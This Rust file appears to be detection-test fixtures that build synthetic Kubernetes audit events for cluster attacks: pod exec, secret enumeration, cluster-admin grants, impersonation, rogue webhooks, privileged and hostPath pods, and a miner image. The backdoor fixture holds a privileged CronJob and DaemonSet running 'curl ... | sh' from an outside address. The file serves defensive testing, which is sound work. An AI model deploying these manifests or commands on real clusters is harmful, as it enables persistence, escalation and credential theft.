//! Audit events as a Kubernetes API server writes them (`audit.k8s.io/v1`), of attacks that need no cluster to be
//! rehearsed.

use super::audit_event::{ATTACKER, Event, person};
use super::{KeyRehearsal, documents};
use serde_json::{Value, json};
use yagura_event::DocumentSource::K8sAudit;

const COMMAND: &str = "k8s.api_suspicious_command";

/// A pod's address.
const POD: &str = "10.244.3.17";

pub(super) const SUSPICIOUS_COMMAND: &[KeyRehearsal] = &[
    documents(
        COMMAND,
        "audit-exec",
        "a command in a pod",
        K8sAudit,
        || {
            vec![in_pod(
                "exec",
                "create",
                "command=%2Fbin%2Fsh&command=-c&command=id&container=web&stdin=true&stdout=true&tty=true",
            )]
        },
    ),
    documents(
        COMMAND,
        "audit-attach",
        "attached to a pod",
        K8sAudit,
        || {
            vec![in_pod(
                "attach",
                "create",
                "container=web&stdin=true&stdout=true",
            )]
        },
    ),
    documents(
        COMMAND,
        "audit-port-forward",
        "a port forwarded into a pod",
        K8sAudit,
        || vec![in_pod("portforward", "create", "ports=5432")],
    ),
    documents(
        COMMAND,
        "audit-ephemeral-container",
        "a debugging container put into a pod",
        K8sAudit,
        ephemeral_container,
    ),
    documents(
        COMMAND,
        "audit-anonymous",
        "the API answers somebody anonymous",
        K8sAudit,
        || {
            let user =
                json!({ "username": "system:anonymous", "groups": ["system:unauthenticated"] });
            vec![
                Event::new("list", "secrets")
                    .namespace("kube-system")
                    .by(user)
                    .from(ATTACKER)
                    .build(),
            ]
        },
    ),
    documents(
        COMMAND,
        "audit-secret-enumeration",
        "secrets are gone through, namespace by namespace",
        K8sAudit,
        secret_enumeration,
    ),
    documents(
        COMMAND,
        "audit-cluster-admin",
        "cluster-admin is given to an account",
        K8sAudit,
        cluster_admin,
    ),
    documents(
        COMMAND,
        "audit-role-escalation",
        "a role that may bind, escalate and impersonate",
        K8sAudit,
        escalating_role,
    ),
    documents(
        COMMAND,
        "audit-impersonation",
        "a user acts as the masters' group",
        K8sAudit,
        impersonation,
    ),
    documents(
        COMMAND,
        "audit-webhook",
        "a webhook that sees and changes every pod",
        K8sAudit,
        webhook,
    ),
    documents(
        COMMAND,
        "audit-cronjob-daemonset",
        "a cron job and a daemon set that bring a backdoor back",
        K8sAudit,
        backdoor_workloads,
    ),
    documents(
        COMMAND,
        "audit-certificate",
        "a certificate for the masters' group is asked for and approved",
        K8sAudit,
        certificate,
    ),
    documents(
        COMMAND,
        "audit-token",
        "a token of a system account is asked for by a person",
        K8sAudit,
        || {
            let spec = json!({ "kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": { "audiences": [], "expirationSeconds": 31_536_000 } });
            vec![
                Event::new("create", "serviceaccounts")
                    .sub("token")
                    .namespace("kube-system")
                    .name("clusterrole-aggregation-controller")
                    .by(person())
                    .request(spec)
                    .build(),
            ]
        },
    ),
    documents(
        COMMAND,
        "audit-events-deleted",
        "events are deleted",
        K8sAudit,
        || {
            vec![
                Event::new("deletecollection", "events")
                    .namespace("default")
                    .by(person())
                    .build(),
            ]
        },
    ),
];

fn account(namespace: &str, name: &str) -> Value {
    json!({
        "username": format!("system:serviceaccount:{namespace}:{name}"),
        "uid": "2f9a7f0e-5d43-4b0f-9a65-3f6f6a0c1d2e",
        "groups": ["system:serviceaccounts", format!("system:serviceaccounts:{namespace}"), "system:authenticated"],
    })
}

fn in_pod(sub: &str, verb: &str, query: &str) -> Value {
    Event::new(verb, "pods")
        .namespace("shop")
        .name("web-5d9c7b8f6-x2x7q")
        .sub(sub)
        .query(query)
        .code(101)
        .build()
}

/// A pod with further fields in its specification.
fn pod(name: &str, image: &str, spec: Value, container: Value) -> Value {
    let mut main = json!({ "name": "main", "image": image, "command": ["sleep", "infinity"] });
    merge(&mut main, container);
    let mut whole = json!({ "containers": [main], "restartPolicy": "Always" });
    merge(&mut whole, spec);
    json!({ "kind": "Pod", "apiVersion": "v1", "metadata": { "name": name, "namespace": "shop" }, "spec": whole })
}

fn merge(into: &mut Value, from: Value) {
    if let (Some(into), Value::Object(from)) = (into.as_object_mut(), from) {
        into.extend(from);
    }
}

fn create_pod(name: &str, pod: Value) -> Event {
    Event::new("create", "pods")
        .namespace("shop")
        .name(name)
        .request(pod)
}

fn ephemeral_container() -> Vec<Value> {
    let patch = json!({ "spec": { "ephemeralContainers": [{
        "name": "debugger-7x2", "image": "busybox", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web",
        "securityContext": { "privileged": true },
    }] } });
    let event = Event::new("patch", "pods")
        .namespace("shop")
        .name("web-5d9c7b8f6-x2x7q")
        .sub("ephemeralcontainers")
        .request(patch);
    vec![event.build()]
}

fn secret_enumeration() -> Vec<Value> {
    let namespaces = [
        "default",
        "shop",
        "billing",
        "kube-system",
        "monitoring",
        "ci",
    ];
    let mut events: Vec<Value> = namespaces
        .iter()
        .map(|namespace| Event::new("list", "secrets").namespace(namespace).build())
        .collect();
    events.extend((0..12).map(|number| {
        Event::new("get", "secrets")
            .namespace("billing")
            .name(&format!("db-credentials-{number}"))
            .build()
    }));
    events.push(Event::new("list", "secrets").build());
    events
}

const RBAC: &str = "rbac.authorization.k8s.io";

fn cluster_admin() -> Vec<Value> {
    let binding = json!({
        "kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": { "name": "helper-binding" },
        "roleRef": { "apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin" },
        "subjects": [{ "kind": "ServiceAccount", "name": "default", "namespace": "shop" }],
    });
    let event = Event::new("create", "clusterrolebindings")
        .group(RBAC)
        .name("helper-binding")
        .request(binding);
    vec![event.build()]
}

fn escalating_role() -> Vec<Value> {
    let role = json!({
        "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": { "name": "helper" },
        "rules": [
            { "apiGroups": [RBAC], "resources": ["clusterroles", "clusterrolebindings"], "verbs": ["bind", "escalate"] },
            { "apiGroups": [""], "resources": ["users", "groups", "serviceaccounts"], "verbs": ["impersonate"] },
            { "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] },
        ],
    });
    vec![
        Event::new("create", "clusterroles")
            .group(RBAC)
            .name("helper")
            .request(role)
            .build(),
    ]
}

fn impersonation() -> Vec<Value> {
    let masters =
        json!({ "username": "admin", "groups": ["system:masters", "system:authenticated"] });
    let event = Event::new("get", "secrets")
        .namespace("kube-system")
        .name("bootstrap-token-abcdef")
        .with("", "impersonatedUser", masters);
    vec![event.build()]
}

fn webhook() -> Vec<Value> {
    let configuration = json!({
        "kind": "MutatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": { "name": "sidecar-helper" },
        "webhooks": [{
            "name": "sidecar.helper.example", "failurePolicy": "Ignore",
            "clientConfig": { "url": "https://203.0.113.9/mutate" },
            "rules": [{ "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods", "secrets"] }],
        }],
    });
    let event = Event::new("create", "mutatingwebhookconfigurations")
        .group("admissionregistration.k8s.io")
        .name("sidecar-helper")
        .request(configuration);
    vec![event.build()]
}

fn backdoor_workloads() -> Vec<Value> {
    let command = json!(["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"]);
    let template = json!({ "spec": {
        "containers": [{ "name": "sync", "image": "alpine:3.20", "command": command, "securityContext": { "privileged": true } }],
        "hostPID": true, "restartPolicy": "OnFailure",
    } });
    let cron = json!({ "kind": "CronJob", "apiVersion": "batch/v1", "metadata": { "name": "node-sync", "namespace": "kube-system" },
        "spec": { "schedule": "*/5 * * * *", "jobTemplate": { "spec": { "template": template } } } });
    let daemons = json!({ "kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": { "name": "node-sync", "namespace": "kube-system" },
        "spec": { "selector": { "matchLabels": { "app": "node-sync" } }, "template": template } });
    vec![
        Event::new("create", "cronjobs")
            .group("batch")
            .namespace("kube-system")
            .name("node-sync")
            .request(cron)
            .build(),
        Event::new("create", "daemonsets")
            .group("apps")
            .namespace("kube-system")
            .name("node-sync")
            .request(daemons)
            .build(),
    ]
}

fn certificate() -> Vec<Value> {
    const CERTIFICATES: &str = "certificates.k8s.io";
    let request = json!({ "kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": { "name": "helper" },
        "spec": { "request": "LS0tLS1yZWhlYXJzYWw=", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"],
                  "username": "dev-user", "groups": ["system:masters"] } });
    let approval = json!({ "kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": { "name": "helper" },
        "status": { "conditions": [{ "type": "Approved", "status": "True", "reason": "helper" }] } });
    vec![
        Event::new("create", "certificatesigningrequests")
            .group(CERTIFICATES)
            .name("helper")
            .request(request)
            .build(),
        Event::new("update", "certificatesigningrequests")
            .group(CERTIFICATES)
            .name("helper")
            .sub("approval")
            .request(approval)
            .build(),
    ]
}

pub(super) fn host_path_pods() -> Vec<Value> {
    let paths = [
        "/",
        "/etc",
        "/var/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/var/lib/kubelet",
        "/proc",
        "/var/log",
        "/root",
        "/sys",
        "/dev",
        "/var/run/crio/crio.sock",
        "/var/lib/kubelet/pki",
    ];
    let events = paths.iter().enumerate().map(|(number, path)| {
        let name = format!("tool-{number}");
        let spec =
            json!({ "volumes": [{ "name": "host", "hostPath": { "path": path, "type": "" } }] });
        let container = json!({ "volumeMounts": [{ "name": "host", "mountPath": "/host" }] });
        create_pod(&name, pod(&name, "busybox:1.36", spec, container)).build()
    });
    events.collect()
}

pub(super) fn host_path_volume() -> Vec<Value> {
    let volume = json!({ "kind": "PersistentVolume", "apiVersion": "v1", "metadata": { "name": "scratch" },
        "spec": { "capacity": { "storage": "1Gi" }, "accessModes": ["ReadWriteMany"], "hostPath": { "path": "/", "type": "" } } });
    vec![
        Event::new("create", "persistentvolumes")
            .name("scratch")
            .request(volume)
            .build(),
    ]
}

pub(super) fn malicious_image() -> Vec<Value> {
    let image = ["docker.io/kannix/monero", "-miner:latest"].concat();
    let pod = pod("batch-7", &image, json!({}), json!({}));
    vec![create_pod("batch-7", pod).build()]
}

pub(super) fn privileged_pods() -> Vec<Value> {
    let privileged = json!({ "securityContext": { "privileged": true } });
    let capable = json!({ "securityContext": { "capabilities": { "add": ["SYS_ADMIN", "SYS_PTRACE", "NET_ADMIN"] } } });
    let host = json!({ "hostPID": true, "hostNetwork": true, "hostIPC": true });
    [
        ("priv-0", json!({}), privileged),
        ("priv-1", json!({}), capable),
        ("priv-2", host, json!({})),
    ]
    .into_iter()
    .map(|(name, spec, container)| {
        create_pod(name, pod(name, "alpine:3.20", spec, container)).build()
    })
    .collect()
}

/// A service account's program inside the cluster.
const POD_AGENT: &str = "curl/8.5.0";

pub(super) fn one_origin_many_accounts() -> Vec<Value> {
    let accounts = [
        ("shop", "web"),
        ("billing", "worker"),
        ("ci", "runner"),
        ("monitoring", "prometheus"),
    ];
    let events = accounts.iter().map(|&(namespace, name)| {
        Event::new("list", "pods")
            .namespace(namespace)
            .by(account(namespace, name))
            .from(POD)
            .agent(POD_AGENT)
            .build()
    });
    events.collect()
}

pub(super) fn token_of_another() -> Vec<Value> {
    let spec = json!({ "kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": { "audiences": [] } });
    let event = Event::new("create", "serviceaccounts")
        .sub("token")
        .namespace("kube-system")
        .name("node-controller")
        .by(account("shop", "web"))
        .from(POD)
        .agent(POD_AGENT)
        .request(spec);
    vec![event.build()]
}

pub(super) fn token_secret_of_another() -> Vec<Value> {
    let event = Event::new("get", "secrets")
        .namespace("kube-system")
        .name("admin-user-token-9x7kd")
        .by(account("shop", "web"))
        .from(POD)
        .agent(POD_AGENT);
    vec![event.build()]
}

pub(super) fn pod_under_stronger_account() -> Vec<Value> {
    let spec = json!({ "serviceAccountName": "cluster-autoscaler", "serviceAccount": "cluster-autoscaler" });
    let event = Event::new("create", "pods")
        .namespace("kube-system")
        .name("helper")
        .by(account("shop", "web"))
        .from(POD)
        .agent(POD_AGENT)
        .request(pod("helper", "alpine:3.20", spec, json!({})));
    vec![event.build()]
}

pub(super) fn outside_own_namespace() -> Vec<Value> {
    let event = |verb: &str, namespace: &str| {
        Event::new(verb, "configmaps")
            .namespace(namespace)
            .by(account("shop", "web"))
            .from(POD)
            .agent(POD_AGENT)
            .build()
    };
    // Its own namespace is what it always does; the other one is new.
    vec![
        event("list", "shop"),
        event("list", "shop"),
        event("list", "billing"),
    ]
}
